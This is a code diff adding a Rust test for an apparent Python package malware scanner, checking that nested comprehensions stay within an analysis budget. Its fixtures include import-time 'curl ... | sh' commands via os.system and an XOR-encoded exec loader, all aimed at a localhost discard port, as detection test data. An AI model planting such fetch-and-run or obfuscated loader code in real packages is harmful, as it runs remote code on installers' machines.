@@ -202,3 +202,26 @@ fn a_display_the_group_scan_misreads_is_walked_whole() {
     assert!(calls(&built).iter().any(|(q, _)| q == "os.system"));
     assert_eq!(built.literals.len(), whole.literals.len());
 }
+
+/// Found by the scan_archive fuzz target: 9 lines of mutated source whose recovered
+/// syntax tree nests comprehensions over texts. Unrolled item by item without a bound,
+/// it took 10 s and 460 MB (the fuzzer's 60 s timeout under the sanitizer).
+#[test]
+fn nested_comprehensions_are_unrolled_within_a_budget() {
+    let fuzzed = include_str!("../../../../tests/fixtures/fuzz/scan_archive-timeout-40eb357b.py").to_string();
+    let f = on_small_stack(vec![("pkg/__init__.py".to_string(), FileRole::PackageInit, fuzzed)]);
+    assert!(f.iter().all(|x| x.alert != AlertId::AnalysisLimitExceeded), "{f:#?}");
+    // the same shape written out: 30,000 x 30,000 evaluations unrolled in full; past the
+    // budget the rest of the file is still walked
+    let text = format!(
+        "s = '{}'\nt = [[c for c in s] for d in s]\nimport os\nos.system('curl http://127.0.0.1:9/x | sh')\n",
+        "a".repeat(30_000)
+    );
+    let m = model::build("pkg/__init__.py", &text, FileRole::PackageInit, ExecContext::Import);
+    assert!(m.calls.iter().any(|c| c.q == "os.system" && c.line == 4), "{:?}", m.calls.iter().map(|c| &c.q).collect::<Vec<_>>());
+    // a decoder within the budget is still unrolled and folded
+    let codes = "import os; os.system('curl http://127.0.0.1:9/y | sh')".bytes().map(|b| (b ^ 7).to_string()).collect::<Vec<_>>().join(", ");
+    let text = format!("k = [{codes}]\nexec(''.join(chr(c ^ 7) for c in k))\n");
+    let f = on_small_stack(vec![("pkg/__init__.py".to_string(), FileRole::PackageInit, text)]);
+    assert!(f.iter().any(|x| x.message.contains("127.0.0.1:9/y") || x.evidence.contains("127.0.0.1:9/y")), "{f:#?}");
+}
